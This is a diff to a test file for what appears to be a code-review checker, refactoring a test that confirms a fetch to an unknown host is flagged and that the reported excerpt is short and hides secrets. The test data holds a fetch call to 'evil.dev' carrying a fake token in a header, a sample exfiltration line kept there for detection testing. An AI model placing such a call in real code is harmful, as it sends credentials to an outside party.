@@ -248,7 +248,8 @@ test("a link that leads out of the repository is caught, one inside it passes", 
 
 test("a hit names rule, file and line, and its excerpt is short and holds no secret", () => {
   const token = `ghp_${"a1B2c3D4e5F6".repeat(3)}`;
-  const text = `\n\nfetch("https://evil.dev", { headers: { a: "${token}" }, b: "${"x".repeat(300)}" });`;
+  const options = `{ headers: { a: "${token}" }, b: "${"x".repeat(300)}" }`;
+  const text = `\n\nfetch("https://evil.dev", ${options});`;
   const { hits } = constitutionCheck([change("src/a.ts", null, text)], task, []);
   expect(hits).toMatchObject([{ rule: "unknown-host", file: "src/a.ts", line: 3 }]);
   expect(hits[0]?.excerpt.length).toBeLessThanOrEqual(200);
